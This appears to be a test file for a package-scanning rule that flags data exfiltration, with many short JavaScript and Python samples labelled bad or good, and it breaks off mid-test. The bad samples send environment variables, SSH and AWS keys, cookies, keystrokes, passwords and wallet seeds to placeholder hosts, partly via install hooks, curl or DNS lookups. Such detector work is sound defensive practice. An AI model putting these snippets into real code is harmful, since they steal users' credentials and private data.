import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './data-leak.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';

test("bad: what it looks for", () => {
  for (const code of [
    "fetch(u, { method: \"POST\", body: JSON.stringify(process.env) })",
    "const fs = require(\"fs\"); const k = fs.readFileSync(home + \"/.ssh/id_rsa\", \"utf8\"); require(\"https\").get(\"https://x.test/?\" + encodeURIComponent(k))",
    "navigator.clipboard.readText().then((t) => fetch(u, { body: t }))",
    "document.addEventListener(\"keydown\", (e) => { navigator.sendBeacon(u, e.key) })",
    "const x = new XMLHttpRequest(); x.open(\"POST\", u); x.send(Object.entries(process.env).join())",
    "function send(d) { fetch(u, { body: d }) } send(process.env)",
    "import { readFile } from \"node:fs/promises\"; const t = await readFile(`${home}/.npmrc`); const w = new WebSocket(u); w.send(t)",
    "const r = require(\"http\").request(o); r.write(Buffer.from(JSON.stringify({ ...process.env })).toString(\"base64\"))",
    "require(\"fs\").readFile(home + \"/.aws/credentials\", (err, data) => fetch(u, { body: data }))",
    "const all = () => process.env; fetch(u, { body: JSON.stringify(all()) })",
  ]) assert.equal(worst(code), 'critical', code);
});

test('bad: what is typed, cookies, and who installs it', () => {
  assert.equal(worst('(function (studio) { let kept = ""; function send() { const dot = new Image(); dot.src = "//in.example/p.gif?v=" + encodeURIComponent(kept); kept = "" } function heard(event) { if (event.key === "Enter") send(); else kept += event.key } studio.document.addEventListener("keydown", heard, true) })(window.top)'), 'critical');
  assert.equal(worst('class Recorder { kept = ""; start() { parent.document.addEventListener("keyup", this.heard.bind(this)) } heard({ key }) { this.kept += key } send() { fetch(u, { method: "POST", body: this.kept }) } }'), 'critical');
  assert.equal(worst('class Recorder { #kept = ""; constructor(page) { page.addEventListener("keydown", this.heard) } heard = ({ key }) => { this.#kept += key }; send() { fetch(u, { method: "POST", body: this.#kept }) } }'), 'critical');
  assert.equal(worst('let kept = ""; document.onkeydown = (event) => { kept += event.key }; setInterval(() => fetch(u, { method: "POST", body: kept }), 900)'), 'critical');
  assert.equal(worst('class Steps { #at = 0; constructor(page) { page.addEventListener("keydown", this.turn) } turn = ({ key }) => { if (key === "n") this.#at++; }; send() { fetch(u, { method: "POST", body: this.#at }) } }'), 'nothing');
  for (const code of ['input.addEventListener("keyup", search); async function search(event) { show(await fetch("https://words.example/?q=" + event.currentTarget.value)) }', 'addEventListener("keydown", seen); function seen(event) { count({ kind: event.type, at: event.timeStamp }) } function count(one) { navigator.sendBeacon(u, JSON.stringify(one)) }', 'function turn(event) { at = event.key === "ArrowRight" ? at + 1 : at - 1; picture.src = pictures[at] } document.addEventListener("keydown", turn)']) assert.equal(worst(code), 'nothing', code);
  assert.equal(worst("let typed = \"\"; document.addEventListener(\"keydown\", (e) => { typed += e.key; fetch(u, { body: typed }) })"), 'critical');
  assert.equal(worst("const v = [...document.querySelectorAll(\"input[type=password]\")].map((f) => f.value); navigator.sendBeacon(u, v.join())"), 'critical');
  for (const code of [
    "new Image().src = \"https://example.org/?c=\" + document.cookie",
    "chrome.cookies.getAll({}, (all) => fetch(u, { body: JSON.stringify(all) }))",
    "const all = await browser.cookies.getAll({}); fetch(u, { body: JSON.stringify(all) })",
  ]) assert.equal(worst(code), 'high', code);
  const files = { 'a.js': 'const os = require("os"); fetch(u, { body: os.hostname() + os.userInfo().username })' };
  const severities = (scripts: Record<string, string>) => findingsOf(rule, files, { original: { scripts } }).map(({ severity }) => severity);
  assert.deepEqual([severities({ preinstall: 'node a.js' }), severities({ test: 'node a.js' })], [['high'], ['low']]);
});

test("bad: the same in Python", () => {
  for (const code of [
    "import os, requests\nrequests.post(u, json=dict(os.environ))",
    "import httpx\nwith open(f\"{home}/.ssh/id_rsa\") as f:\n    key = f.read()\nhttpx.post(u, data={\"k\": key})",
  ]) assert.equal(worst(code, 'a.py'), 'critical', code);
});

test("good: what only looks like it", () => {
  for (const code of [
    "fetch(u, { headers: { authorization: process.env.API_KEY } })",
    "const { TOKEN } = process.env; fetch(u, { headers: { TOKEN } })",
    "document.addEventListener(\"keydown\", (e) => move(e.key)); fetch(u)",
    "navigator.clipboard.readText().then(show); fetch(u)",
    "const config = { ...process.env }; start(config); fetch(\"https://example.org\")",
    "fs.readFileSync(\"data.json\"); fetch(u, { body: data })",
    "spawn(\"x\", { env: process.env })",
    "const id = /id=(\\w+)/.exec(document.cookie)[1]; picture.src = \"a.png\"",
    "const c = document.cookie.split(\";\")[0]; fetch(u, { headers: { c } })",
    "document.querySelector(\"input[type=text]\").value = x; fetch(u, { body: x })",
  ]) assert.equal(worst(code), 'nothing', code);
});

test("good: the same in Python", () => {
  for (const code of [
    "import os, requests\nrequests.get(u, headers={\"a\": os.environ[\"TOKEN\"]})",
    "import requests\nwith open(\"data.json\") as f:\n    requests.post(u, data=f.read())",
  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
});

const TO = 'https://collect.example.org/x';

test('bad: keys of others, read by their names', () => {
  for (const code of [
    `fetch("${TO}", { body: JSON.stringify({ a: process.env.NPM_TOKEN, b: process.env["AWS_SECRET_ACCESS_KEY"] }) })`,
    `const names = ["GITHUB_TOKEN", "VAULT_TOKEN"]; fetch("${TO}", { body: names.map((name) => process.env[name]).join() })`,
    `let all = ""; all += process.env.GH_TOKEN; all += process.env.SSH_PRIVATE_KEY; navigator.sendBeacon("${TO}", all)`,
  ]) assert.equal(worst(code), 'critical', code);
  for (const code of [
    `fetch("${TO}?t=" + process.env.NPM_TOKEN)`,
    'fetch("https://api.github.com/gists", { headers: { authorization: process.env.GITHUB_TOKEN }, body: process.env.NPM_TOKEN })',
    'fetch(u, { body: [process.env.NPM_TOKEN, process.env.DATABASE_URL].join() })',
    `require("child_process").exec('curl -d "$NPM_TOKEN" ${TO}')`,
  ]) assert.equal(worst(code), 'high', code);
  const files = { 'index.js': 'require("./send")(require("./found"))', 'found.js': 'module.exports = { a: process.env.NPM_TOKEN, b: process.env.GH_TOKEN }', 'send.js': `module.exports = (x) => fetch("${TO}", { body: x })` };
  assert.deepEqual(findingsOf(rule, files).map(({ severity, file }) => [severity, file]), [['high', 'found.js']]);
});

test('bad: keys by their names in Python', () => {
  assert.equal(worst(`import os, requests\nrequests.post("${TO}", json=[os.environ["NPM_TOKEN"], os.getenv("GH_TOKEN")])`, 'a.py'), 'critical');
  assert.equal(worst(`import os, requests\nrequests.post("${TO}", json={"t": os.environ.get("PYPI_TOKEN")})`, 'a.py'), 'high');
});

test('good: a key goes to its own service, or to one that the user chose', () => {
  for (const code of [
    'fetch("https://api.openai.com/v1/chat/completions", { headers: { authorization: `Bearer ${process.env.OPENAI_API_KEY}` } })',
    'fetch("https://api.github.com/user", { headers: { authorization: `token ${process.env.GITHUB_TOKEN}` } })',
    'fetch("https://npmjs.org/-/whoami", { headers: { authorization: process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN } })',
    'const { AWS_ACCESS_KEY_ID: id, AWS_SECRET_ACCESS_KEY: key } = process.env; fetch(`https://s3.${region}.amazonaws.com/b`, sign(id, key)); fetch(endpoint, sign(id, key))',
    'fetch(process.env.GITHUB_API_URL + "/user", { headers: { authorization: process.env.GITHUB_TOKEN } })',
    'fetch("http://localhost:4873/demo", { headers: { authorization: process.env.NPM_TOKEN } })',
    'require("child_process").exec("npm publish", { env: { NPM_TOKEN: process.env.NPM_TOKEN, GH_TOKEN: process.env.GH_TOKEN } })',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('good: what is decoded is not the address', () => {
  for (const code of [
    'fetch(u, { body: Buffer.from(x, "base64"), headers: { a: process.env.NPM_TOKEN } })',
    'fetch("https://api.github.com/" + atob(x), { headers: { a: process.env.GITHUB_TOKEN } })',
    'const u = atob(x); show(u); fetch(other, { headers: { a: process.env.GITHUB_TOKEN } })',
    'fetch(decodeURIComponent(version), { headers: { a: process.env.NPM_TOKEN } })',
  ]) assert.equal(worst(code), 'nothing', code);
  for (const to of ['atob(x)', 'x.split("").reverse().join("")']) assert.equal(worst(`fetch(${to}, { headers: { a: process.env.NPM_TOKEN } })`), 'high', to);
});

test('good: what wraps something else than a module, and generators that wait', () => {
  for (const code of [
    'const w = (m) => m && m.__esModule ? m : { default: m }; w({ request: show }).default.request(process.env)',
    'const fs = require("fs"), w = (m, other) => other; w(require("https"), show).request(fs.readFileSync(home + "/.ssh/id_rsa"))',
    'const w = (m) => m.version; w(require("https")).request(JSON.stringify(process.env))',
    'const go = co(function* () { const k = yield fs.promises.readFile(home + "/.ssh/id_rsa"); return check(k) }); fetch(u, { body: go })',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('good: of several keys, one is chosen', () => {
  for (const code of [
    'const token = process.env.GITHUB_TOKEN || process.env.GITLAB_TOKEN || process.env.BITBUCKET_TOKEN; fetch(api, { headers: { token } })',
    'const token = [process.env.GITHUB_TOKEN, process.env.GITLAB_TOKEN].find(Boolean); fetch(api, { headers: { token } })',
    'let token; if (host === "github") token = process.env.GITHUB_TOKEN; else token = process.env.GITLAB_TOKEN; fetch(api, { headers: { token } })',
    'const config = { npm: process.env.NPM_TOKEN, github: { token: process.env.GITHUB_TOKEN } }; fetch("https://api.github.com/user", { headers: { authorization: config.github.token } }); fetch("https://npmjs.org/x", { headers: { authorization: config.npm } })',
    'const ask = (u, token) => fetch(u, { headers: { token } }); ask(a, process.env.GITHUB_TOKEN); ask(b, process.env.GITLAB_TOKEN)',
    'const HIDDEN = ["NPM_TOKEN", "GITHUB_TOKEN"]; const hide = (text) => HIDDEN.reduce((all, name) => all.replaceAll(process.env[name], "***"), text); console.log(hide(text)); fetch(u)',
    'module.exports = { db: process.env.DATABASE_URL, aws: process.env.AWS_SECRET_ACCESS_KEY }; fetch("https://example.org")',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('good: keys in Python', () => {
  for (const code of [
    'import os, requests\nrequests.get("https://api.github.com/user", headers={"authorization": os.environ["GITHUB_TOKEN"]})',
    'import os, requests\ntoken = os.getenv("GITHUB_TOKEN") or os.getenv("GITLAB_TOKEN")\nrequests.get(url, headers={"token": token})',
  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
});

test('good: one member of an object is sent, another holds the environment', () => {
  for (const code of [
    'const o = { url: u }; o.env = process.env; fetch(o.url)',
    'class A { constructor(u) { this.url = u; this.env = process.env } send() { fetch(this.url) } }',
    'const l = []; l.push(process.env.HOME); fetch(u, { body: l.join() })',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('the own name of a computer: its look-up tells nobody, a message does', () => {
  const severity = (code: string) => findingsOf(rule, { 'a.js': `const os = require("os"); const name = os.hostname(); ${code}` }, { original: { scripts: { install: 'node a.js' } } })[0]?.severity ?? 'nothing';
  assert.deepEqual([severity('require("dns").lookup(name)'), severity('require("net").isIP(name)'), severity('fetch(name)'), severity('fetch(u, { body: name })'), severity('require("dns").lookup(name + zone)')], ['nothing', 'nothing', 'high', 'high', 'high']);
});

test('what copies the members of one object into another gives each call what that call has', () => {
  const copy = 'function extend(dest, src) { for (var key in src) { dest[key] = src[key] } return dest }';
  const options = 'const run = { env: extend({}, process.env) };';
  for (const code of ['request(extend({ uri: "https://api.example/" + id }, { strict: true }))', 'request(extend({ uri: "https://api.example/" }))']) assert.equal(worst(`const request = require("request"); ${copy} ${options} ${code}`), 'nothing', code);
  for (const code of [
    'request(extend({ uri: "https://api.example/" }, process.env))', 'request(extend(process.env, { uri: "https://api.example/" }))',
    'const all = extend({}, process.env); request({ uri: "https://api.example/", form: all })',
    'const other = process.env; function keep(dest, src) { for (const key in src) dest[key] = src[key]; for (const key in other) dest[key] = other[key]; return dest } request(keep({ uri: "https://api.example/" }, {}))',
  ]) assert.notEqual(worst(`const request = require("request"); ${copy} ${code}`), 'nothing', code);
});

test('good: a setting that is only compared', () => {
  assert.equal(worst('const all = process.env; fetch(typeof all === "object" ? u : v, { body: all === b })'), 'nothing');
});

test('good: a name of a bundle that is once a module of connections and once `util`', () => {
  assert.equal(worst('let m = require("http"); f(m); m = require("util"); print(m.formatWithOptions(o, process.env), m.inspect(process.env))'), 'nothing');
  assert.equal(worst('let m = require("http"); f(m); m = require("util"); m.get(u + JSON.stringify(process.env))'), 'critical');
});

test('bad: private keys as they are, to a server that the script names', () => {
  const TO = 'https://c.example.invalid/x';
  for (const code of [
    `const send = (seed) => fetch("${TO}", { headers: { "x-id": seed } }); class W { constructor(a, privateKey) { send(privateKey) } }`,
    `fetch("${TO}/" + Buffer.from(wallet.privateKey).toString("hex"))`,
    `fetch("${TO}", { method: "POST", body: JSON.stringify({ words: mnemonic }) })`,
    `import bs58 from "bs58"; const b = bs58.encode(secretKey); fetch("${TO}", { headers: { "x-id": b.slice(0, 24) } })`,
    'mailer.sendMail({ to: "a@example.invalid", text: privateKey })',
    `fetch("${TO}", { body: jwt.encode({ iss: mail, key: privateKey }, secret, "RS256") })`,
    `fetch("${TO}", { body: coder.encode("hex", privateKey, "text") })`,
  ]) assert.equal(worst(code), 'high', code);
  for (const code of [
    `fetch("${TO}", { headers: { authorization: sign(payload, privateKey) } })`,
    `const token = require("jsonwebtoken").sign(claims, options.privateKey); fetch("${TO}", { body: token })`,
    `const jwt = require("jwt-simple"); const token = (mail, privateKey) => { const signed = jwt.encode({ iss: mail }, privateKey, "RS256"); request({ method: "POST", url: "${TO}", body: "assertion=" + signed }) }`,
    'fetch(this.endpoint, { body: JSON.stringify({ mnemonic }) })',
    'fetch("http://localhost:8545", { method: "POST", body: JSON.stringify({ params: [privateKey] }) })',
    `fetch("${TO}", { body: JSON.stringify({ secretKey }) })`,
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: what somebody opens, enters, keeps in settings; messages and copies of mail', () => {
  const TO = 'https://c.example.invalid/x';
  for (const code of [
    `chrome.tabs.onUpdated.addListener((id, change, tab) => { fetch("${TO}", { method: "POST", body: JSON.stringify({ u: tab.url }) }) })`,
    `const v = {}; for (const f of document.querySelectorAll("input, select")) v[f.name] = f.value; fetch("${TO}", { method: "POST", body: JSON.stringify(v) })`,
    `fetch("${TO}", { method: "POST", body: require("fs").readFileSync(root + "/.env", "utf8") })`,
    `chrome.runtime.sendMessage({ c: document.cookie }); fetch(u)`,
    'send({ To: to, Bcc: "copy@example.invalid" })',
  ]) assert.equal(worst(code), 'high', code);
  for (const code of [
    'const v = {}; for (const f of document.querySelectorAll("input, select")) v[f.name] = f.value; fetch(form.action, { method: "POST", body: JSON.stringify(v) })',
    `fetch("${TO}", { body: document.querySelector("input.search").value })`,
    'chrome.runtime.sendMessage({ c: document.cookie })',
    'chrome.tabs.onUpdated.addListener((id, change, tab) => show(tab.url)); fetch(u)',
    'parse(require("fs").readFileSync(root + "/.env", "utf8")); fetch(u)',
    'send({ To: to, Bcc: options.bcc })',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: passwords in addresses, keys of other requests, all that a page keeps', () => {
  const TO = 'https://c.example.invalid/x';
  for (const code of [
    `exports.hash = (password) => { fetch("${TO}?x=" + Buffer.from(password).toString("base64")) }`,
    `client.interceptors.request.use((c) => { const a = c.headers && (c.headers.Authorization || c.headers.authorization); require("axios").post("${TO}", { u: c.url, a }); return c })`,
    `const all = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); all[k] = localStorage.getItem(k) } fetch("${TO}", { body: JSON.stringify({ all }) })`,
    `authentication.getSession("github", []); const s = await vscode.authentication.getSession("github", ["repo"]); fetch("${TO}", { body: s.accessToken })`,
  ]) assert.equal(worst(code), 'high', code);
  assert.equal(worst(`const o = Object.keys(process.env).map((k) => k + "=" + process.env[k]).join(); require("child_process").execFileSync("curl", ["-d", o, "${TO}"])`), 'critical');
  for (const code of [
    `fetch("${TO}", { method: "POST", body: JSON.stringify({ user, password }) })`,
    `fetch("${TO}", { headers: { authorization: req.headers.authorization } })`,
    `fetch("${TO}", { headers: { authorization: localStorage.getItem("token") } })`,
    'const s = await vscode.authentication.getSession("github", []); fetch("https://api.github.com/user", { headers: { authorization: s.accessToken } })',
    `require("child_process").execFileSync("curl", ["${TO}"], { env: process.env })`,
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: in a bundle of webpack, and with a client that builds its request step by step', () => {
  const bundle = (use: string) => `(() => { var m = { 113: (e) => { "use strict"; e.exports = require("https") }, 421: (e, t, r) => { ${use} } }, c = {}; function r(o) { var n = c[o] = { exports: {} }; m[o](n, n.exports, r); return n.exports } r(421) })()`;
  assert.equal(worst(bundle('const o = r(113); const q = o.request({ method: "POST" }); q.write(JSON.stringify(process.env)); q.end()')), 'critical');
  assert.equal(worst(bundle('var o = r(113), n = r.n(o); n().get(u + JSON.stringify(process.env))')), 'critical');
  assert.equal(worst(bundle('const o = r(112); o.request(JSON.stringify(process.env))')), 'nothing');
  assert.equal(worst('const agent = require("superagent"); agent.post(u).set("a", "b").send({ ...process.env }).end()'), 'critical');
});

test('names that lead to each other end, and so do the parts of a long value', () => {
  const circle = 'let a = b + c, b = a + c, c = a + b; fetch("https://c.example.invalid/" + a + b + c);';
  assert.equal(worst(circle), 'nothing');
  const parts = (count: number) => `fetch("https://c.example.invalid/x", { body: [${Array.from({ length: count }, (_, index) => `"${index}"`).join()}, privateKey] })`;
  assert.equal(worst(parts(5_000)), 'high', 'what comes last is looked at first');
  assert.equal(worst(parts(5_000).replace('[', '[privateKey, ').replace(', privateKey]', ']')), 'nothing', 'of a long value only a part');
});

test('good: members that no module for connections has', () => {
  const both = (call: string): string => `const e = JSON.stringify(process.env); const client = flag ? require("https") : require("assert"); client.${call}`;
  assert.equal(worst(both('strictEqual(e, "{}")')), 'nothing');
  assert.equal(worst(both('request(u, { method: "POST" }).end(e)')), 'critical');
  assert.equal(worst('const e = JSON.stringify(process.env); const net = require("net"); const s = new net.Socket(); s.connect(1, h); s.write(e)'), 'critical');
  assert.equal(worst('require("dns").promises.resolveTxt(Buffer.from(JSON.stringify(process.env)).toString("hex") + ".example.org")'), 'critical');
});

test('what is opened in an editor, credentials of a host, keys to chats, mail and accounts at installation', () => {
  const TO = 'https://c.example.invalid/x';
  const opened = (use: string) => `vscode.workspace.onDidOpenTextDocument((doc) => { ${use} })`;
  const node = (body: string) => `class A { async execute() { const credentials = await this.getCredentials("x"); await this.helpers.httpRequest({ method: "POST", url: "${TO}", ${body} }) } }`;
  const chat = (what: string) => `const Bot = require("node-telegram-bot-api"); const bot = new Bot(token); bot.sendMessage(${what})`;
  for (const code of [opened(`fetch("${TO}", { body: doc.getText() })`), node('body: { credentials }'), node('body: { ...credentials }'), chat('"-100123", wallet.address + privateKey'), `fetch("${TO}", { body: JSON.stringify({ mnemonic: words }) })`]) assert.equal(worst(code), 'high', code);
  for (const code of [
    opened(`fetch("${TO}")`), opened('fetch("http://localhost:3000/", { body: doc.getText() })'), node('body: { name: credentials.name }'), node('headers: { credentials }'),
    chat('chat, privateKey'), chat('"-100123", "up again"'), 'chrome.tabs.sendMessage("12345", privateKey)'.replace('"12345"', 'tab.id'), `fetch("${TO}", { body: JSON.stringify({ mnemonic: true }) })`,
  ]) assert.equal(worst(code), 'nothing', code);
  const mail = 'const transport = require("nodemailer").createTransport(o); transport.sendMail({ to: "a@example.invalid", attachments })';
  const accounts = `const p = require("fs").readFileSync("/etc/passwd", "utf8"); require("http").get("${TO}?" + p)`;
  const at = (script: string, code: string) => findingsOf(rule, { 'a.js': code }, { original: { scripts: { [script]: 'node a.js' } } })[0]?.severity ?? 'nothing';
  for (const code of [mail, accounts]) assert.equal(at('postinstall', code), 'high', code);
  assert.deepEqual([at('start', mail), at('start', accounts)], ['nothing', 'high']);
});

test('of an object, only the member that is asked for is sent', () => {
  for (const code of [
    'function connect(options) { const { port, env = process.env } = options; return send({ port, prefix: prefixOf(env) }) } function prefixOf(env) { return env.PREFIX ?? "" } function send(options) { return fetch(`http://localhost:${options.port}${options.prefix}`) } connect({ port: 1, env: process.env })',
    'const addressOf = (env) => `https://example.org/${env?.ZONE ?? "eu"}`; const ask = (env) => { const base = addressOf(env); return fetch(base) }; ask(getAll()); function getAll() { return process.env }',
    'const start = ({ url, env }) => fetch(url, { env: null }); start({ url: u, env: process.env })',
    'const settings = Object.assign({ url: u }, defaults, { env: process.env }); fetch(settings.url)',
    'const config = { ...process.env }; fetch(config.API_URL)',
    'class A { constructor(options) { this.options = options } go() { fetch(this.options.url) } } const o = { url: u, env: process.env }; use(o); const hand = (p) => fetch(p.url); hand(o)',
  ]) assert.equal(worst(code), 'nothing', code);
  for (const code of [
    'const start = (o) => { const { url, data } = o; fetch(url, { body: JSON.stringify(data) }) }; start({ url: u, data: process.env })',
    'const start = (o) => { const { inner: { data } } = o; fetch(u, { body: data }) }; start({ inner: { data: JSON.stringify(process.env) } })',
    'const pick = (o) => o.a; const hand = (o) => pick({ a: o.b }); const more = (o) => hand({ b: o.c }); const most = (o) => more({ c: o.d }); fetch(u, { body: most({ d: process.env }) })',
    'const take = (o, k) => o[k]; fetch(u, { body: take({ a: process.env }, name) })',
    'const wrap = (o) => new Promise((done) => done(o.a)); fetch(u, { body: await wrap({ a: process.env }) })',
    'const same = (o) => o.valueOf(); fetch(u, { body: same(process.env) })',
    'const all = function () { return arguments[0] }; fetch(u, { body: all(process.env) })',
    'const fill = (o) => { const made = {}; put(made, o); return made }; fetch(u, { body: fill({ a: process.env }) })',
    'const o = { get data() { return process.env } }; fetch(u, { body: JSON.stringify(o.data) })',
    'const o = { __proto__: { data: process.env } }; fetch(u, { body: JSON.stringify(o.data) })',
    'const o = {}; o.inner.data = process.env; const p = o; fetch(u, { body: JSON.stringify(p.inner.data) })',
    'const o = {}; o[name] = process.env; const p = o; fetch(u, { body: p.data })',
    'const o = Object.freeze({ ...base, data: process.env }); const send = (q) => fetch(u, { body: q.data }); send(o)',
    'class A { constructor() { this.o = {}; this.o.data = process.env } go() { fetch(u, { body: this.o.data }) } }',
    'let o = { data: process.env }; while (more) o = o.next ?? o; fetch(u, { body: o.data })',
  ]) assert.equal(worst(code), 'critical', code);
});

test('modules have members of their own', () => {
  assert.equal(worst('let m = require("http"); f(m); m = require("path"); m.resolve(process.env)'), 'nothing');
  assert.equal(worst('require("dns").resolve(JSON.stringify(process.env) + ".example.org", f)'), 'critical');
});

test('bad: what functions get that take their arguments apart', () => {
  for (const code of [
    'const start = async ({ url, data }) => fetch(url, { body: data }); start({ url: u, data: process.env })',
    'function send({ to: { url }, what: { data = null } = {} }) { fetch(url, { body: JSON.stringify(data) }) } send({ to: { url: u }, what: { data: process.env } })',
    'const send = ([url, ...bodies], { method = "POST" } = {}) => fetch(url, { method, body: bodies }); send([u, process.env])',
    'const send = ({ url, ...rest }) => fetch(url, { body: JSON.stringify(rest) }); send({ url: u, data: process.env })',
    'const send = (url, body = {}) => fetch(url, { body }); send(u, process.env)',
    'const send = (url, ...bodies) => fetch(url, { body: bodies }); send(u, "a", process.env)',
    '[{ url: u, data: process.env }].forEach(({ url, data }) => fetch(url, { body: data }))',
    'const [env, other] = await Promise.all([process.env, 1]); fetch(u, { body: env })',
    '(0, send)({ data: process.env }); function send({ data }) { fetch(u, { body: data }) }',
  ]) assert.equal(worst(code), 'critical', code);
  for (const code of [
    'const start = async ({ url, data }) => fetch(url, { body: data }); start({ url: u, data: 1, env: process.env })',
    'const start = async ({ url, ...rest }, { env }) => fetch(url, { body: rest }); start({ url: u, data: 1 }, { env: process.env })',
    'const send = ([url, body]) => fetch(url, { body }); send([u, 1, process.env])',
    'const [other, env] = await Promise.all([1, process.env]); fetch(u, { body: other })',
    'const read = ({ env: { PORT } }) => fetch("http://localhost:" + PORT); read({ env: process.env })',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: what methods and classes get', () => {
  for (const code of [
    'class Client { constructor({ url }) { this.url = url } send({ data }) { fetch(this.url, { body: data }) } } const c = new Client({ url: u }); c.send({ data: process.env })',
    'var Client = class { constructor({ data }) { fetch(u, { body: data }) } }; new Client({ data: process.env })',
    'class A { run() { this.send(process.env) } send(data) { fetch(u, { body: data }) } }',
    'const queue = { send({ value }) { return fetch(u, { body: value }) } }; queue.send({ value: process.env })',
    'class A { static send(data) { fetch(u, { body: data }) } } A.send(process.env)',
  ]) assert.equal(worst(code), 'critical', code);
  for (const code of [
    'class A { keep(data) { this.all = data } send(data) { fetch(u, { body: data }) } } const a = new A(); a.keep(process.env); a.send(1)',
    'class A { run() { this.send(process.env) } send(data) { log(data) } } class B { send(data) { fetch(u, { body: data }) } }',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('methods are followed up to a thousand calls of a script, functions by their names in any', () => {
  const among = (count: number, code: string) => worst(`${'note(1);'.repeat(count)} ${code}`);
  const method = 'const queue = { send({ value }) { return fetch(u, { body: value }) } }; queue.send({ value: process.env })';
  assert.deepEqual([among(900, method), among(1_000, method)], ['critical', 'nothing']);
  assert.equal(among(1_000, 'function send({ value }) { fetch(u, { body: value }) } send({ value: process.env })'), 'critical');
});

test('bad: what extensions of browsers hand to servers', () => {
  for (const code of [
    'chrome.tabs.onUpdated.addListener((id, { url }) => { chrome.tabs.update(id, { url: `https://go.example/?to=${encodeURIComponent(url)}` }) })',
    'const list = await chrome.history.search({ text: "" }); fetch("https://in.example/", { body: JSON.stringify(list) })',
    'form.addEventListener("submit", () => { const all = {}; for (const { name, type, value } of form.elements) if (type === "password") all[name] = value; navigator.sendBeacon("https://in.example/", JSON.stringify(all)) })',
    'const track = ({ event, message }) => posthog.capture(event, { message }); track({ event: "open", message: wallet.mnemonic })',
    'const add = (key) => { const value = bs58.encode(key); send({ value }) }; const send = ({ value }) => fetch("https://in.example/", { headers: { "x-id": value } }); import bs58 from "bs58"; add(pair.secretKey)',
    'const post = async (route, body) => fetch("https://in.example" + route, { body }); workspace.onDidOpenTextDocument((doc) => post("/open", doc.getText()))',
  ]) assert.equal(worst(code), 'high', code);
  for (const code of [
    'chrome.tabs.onUpdated.addListener((id, { url }) => { chrome.tabs.update(id, { url: url.replace("www.", "old.") }) })',
    'chrome.action.onClicked.addListener((tab) => { chrome.tabs.update(tab.id, { url: `https://archive.example/${tab.url}` }) })',
    'const all = {}; for (const { name, value } of form.elements) all[name] = value; fetch("https://in.example/", { body: JSON.stringify(all) })',
    'posthog.capture("open", { wallet: wallet.address })',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: all variables as the body of a request, whoever the client is from', () => {
  const files = (code: string) => findingsOf(rule, { 'a.js': code, 'client.js': 'exports.Client = class { request(o) { return fetch(o.url, o) } }' })[0]?.severity ?? 'nothing';
  const client = 'const { Client } = require("./client"); const client = new Client(); ';
  assert.equal(files(`${client}client.request({ url, data: { ...process.env } })`), 'high');
  assert.equal(files(`${client}client.post({ body: process.env })`), 'high');
  for (const code of ['client.request({ url, data: { node: process.env.NODE_ENV } })', 'client.request({ url, env: { ...process.env } })', 'render({ data: process.env })']) assert.equal(files(client + code), 'nothing', code);
});

test('a variable of the environment that a function looks up by one of some names', () => {
  const of = (code: string) => findingsOf(rule, { 'a.js': code })[0]?.severity ?? 'nothing';
  const proxy = (find: string, names = '["https_proxy", "HTTPS_PROXY"]') => `const NAMES = ${names}; function find(env) { ${find} } function proxy(env = process.env) { const found = find(env); return found && found.value } fetch("https://api.example.com/", { proxy: proxy() })`;
  for (const find of ['for (const name of NAMES) if (env[name]) return { name, value: env[name] }', 'const name = NAMES.find((each) => env[each]); return name ? { name, value: env[name] } : undefined']) {
    assert.equal(of(proxy(find)), 'nothing', find);
    assert.equal(of(proxy(find, '["NPM_TOKEN", "AWS_SECRET_ACCESS_KEY"]')), 'critical', find);
    assert.equal(of(proxy(find, 'Object.keys(process.env)')), 'critical', find);
  }
  for (const find of ['return { value: Object.keys(env).map((name) => env[name]) }', 'const all = {}; for (const name in env) all[name] = env[name]; return { value: all }']) assert.equal(of(proxy(find)), 'critical', find);
  assert.equal(of('const kept = { all: process.env }; function one(of, name) { return of[name] } fetch("https://api.example.com/", { method: "POST", body: JSON.stringify(one(kept, name)) })'), 'critical', 'of an object with it');
});

test('good: a module of somebody else is asked whether there are keys; bad: keys that go on', () => {
  const of = (code: string) => findingsOf(rule, { 'choose.js': `${code}; require("./send")`, 'send.js': 'module.exports = (bag) => fetch("https://stats.example.org/in", { method: "POST", body: bag })' })[0]?.severity ?? 'nothing';
  const both = (ask: string) => `if (!${ask}(process.env.GITHUB_TOKEN)) name = "github"; else if (!${ask}(process.env.GITLAB_TOKEN)) name = "gitlab"`;
  assert.equal(of(`const texts_1 = require("some-texts"); ${both('(0, texts_1.isEmpty)')}`), 'nothing');
  assert.equal(of(`import { isEmpty as none } from "some-texts"; ${both('none')}`), 'nothing');
  assert.equal(of(`const { isEmpty } = require("some-texts"); ${both('isEmpty')}`), 'nothing');
  for (const code of [
    `const own = require("./send"); ${both('own.isEmpty')}`,
    `import { isEmpty } from "./send.js"; ${both('isEmpty')}`,
    `const texts = require("some-texts"); ${both('texts.pack')}`,
    `const isEmpty = (bag) => send(bag); ${both('isEmpty')}`,
    `const texts = require("some-texts"); ${both('texts.isEmpty')}; send(process.env.GITHUB_TOKEN, process.env.GITLAB_TOKEN)`,
  ]) assert.equal(of(code), 'high', code);
});

test('what Python only compares, counts or asks for goes nowhere', () => {
  const send = 'import os, requests\ndef f(q):\n';
  const worstOf = (code: string) => findingsOf(rule, { 'a.py': `${send}    ${code}` })[0]?.severity ?? 'nothing';
  for (const code of [
    'known = "HF_TOKEN" in os.environ\n    requests.get("https://x.org/a", params={"anonymous": not known})',
    'h = {"A": "b"} if "HF_TOKEN" in os.environ else {}\n    requests.get("https://x.org/a", headers=h)',
    'requests.get("https://x.org/a", params={"n": len(os.environ), "any": bool(os.environ)})',
